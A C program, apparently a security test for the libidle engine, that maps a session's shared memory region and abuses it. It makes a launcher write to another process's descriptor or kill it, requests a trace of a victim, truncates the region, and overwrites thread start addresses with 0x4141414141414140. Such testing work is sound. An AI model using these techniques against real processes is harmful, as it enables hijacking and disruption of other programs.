/* A program of a session that means harm: it writes into the session's region what makes another program act for it. How the
 * region is laid out stands in libidle/engine/src/region/layout.rs.
 *
 * attack ring PID FD: to write into descriptor FD of process PID
 * attack signal PID: to kill process PID
 * attack seize PID: to trace process PID
 * attack shrink: to take the region away from all that have it mapped
 * attack poison PID: to send the threads of process PID to an address of its choice
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/futex.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { SIGNAL = 24, KEEPER = 448, TRACER = 488, TRACER_ASKED = 492 };
enum { SLOT = 128, PID = 32, TID = 36, TRACER_WORD = 60, WAKE_FD = 80, BEGINS = 88 };
enum { ASKS = 1 };

static char *region;
static size_t size;
static int file;

static _Atomic uint32_t *word(size_t at)
{
	return (void *)(region + at);
}

static void map(void)
{
	char path[64];
	const char *session = getenv("FLUX_SESSION");
	struct stat about;
	if (!session)
		exit(90);
	snprintf(path, sizeof path, "%.*s", (int)strcspn(session, ":"), session);
	file = open(path, O_RDWR);
	if (file < 0 || fstat(file, &about))
		exit(91);
	size = about.st_size;
	region = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
	if (region == MAP_FAILED)
		exit(92);
}

/* The first slot of that thread from `at` on; 0: none. */
static size_t slot_from(size_t at, pid_t pid, pid_t tid)
{
	for (; at < 1 << 20; at += 64)
		if (*word(at + PID) == (uint32_t)pid && (tid < 0 || *word(at + TID) == (uint32_t)tid))
			return at;
	return 0;
}

static size_t slot_of(pid_t pid)
{
	size_t at;
	while (!(at = slot_from(0, pid, pid)))
		;
	return at;
}

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

/* Time does not jump meanwhile. */
static void compute(double seconds)
{
	for (double end = now() + seconds; now() < end;)
		;
}

/* A child of ours waits for a time that comes while it is stopped, so that the launcher has to end its wait. */
static void another_ends_my_wait(pid_t pid, int fd)
{
	pid_t child = fork();
	if (child == 0) {
		int pipes[2];
		if (pipe(pipes))
			_exit(1);
		struct pollfd set = { .fd = pipes[0], .events = POLLIN };
		poll(&set, 1, 500);
		_exit(0);
	}
	size_t slot = slot_of(child);
	compute(0.2);
	kill(child, SIGSTOP);
	*word(SIGNAL) = SIGKILL;
	*word(slot + WAKE_FD) = fd;
	*word(slot + TID) = pid;
	*word(slot + PID) = pid;
	uint32_t before = *word(slot);
	compute(1);
	/* Nobody has tried: then this attack shows nothing. */
	if (*word(slot) == before)
		exit(94);
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	*word(slot + TID) = child;
	*word(slot + PID) = child;
}

static void seize(pid_t victim)
{
	pid_t me = getpid();
	size_t slot = slot_of(me);
	*word(slot + TID) = victim;
	*word(slot + TRACER_WORD) = ASKS;
	*word(TRACER_ASKED) = 1;
	*word(TRACER) += 1;
	*word(KEEPER) = 1;
	for (int i = 0; i < 20; i++) {
		syscall(SYS_futex, word(TRACER), FUTEX_WAKE, 9, 0, 0, 0);
		syscall(SYS_futex, word(KEEPER), FUTEX_WAKE, 9, 0, 0, 0);
		compute(0.05);
	}
	if (*word(slot + TRACER_WORD) == ASKS)
		exit(95);
	*word(slot + TRACER_WORD) = 0;
	*word(slot + TID) = me;
}

static void poison(pid_t victim)
{
	for (double end = now() + 1; now() < end;)
		for (size_t at = 0; (at = slot_from(at, victim, -1)); at += SLOT)
			/* Words that once held where a thread begins, and with what. */
			for (size_t i = 0; i < 3; i++) {
				uint64_t *word = (void *)(region + at + BEGINS + 8 * i);
				if (*word)
					*word = 0x4141414141414140;
			}
}

int main(int argc, char **argv)
{
	const char *how = argc > 1 ? argv[1] : "";
	pid_t pid = argc > 2 ? atoi(argv[2]) : 0;
	map();
	if (!strcmp(how, "ring") && argc > 3)
		another_ends_my_wait(pid, atoi(argv[3]));
	else if (!strcmp(how, "signal"))
		another_ends_my_wait(pid, -1);
	else if (!strcmp(how, "seize"))
		seize(pid);
	else if (!strcmp(how, "shrink"))
		printf("%s\n", ftruncate(file, 0) ? strerrorname_np(errno) : "done");
	else if (!strcmp(how, "poison"))
		poison(pid);
	else
		return 93;
	return 0;
}
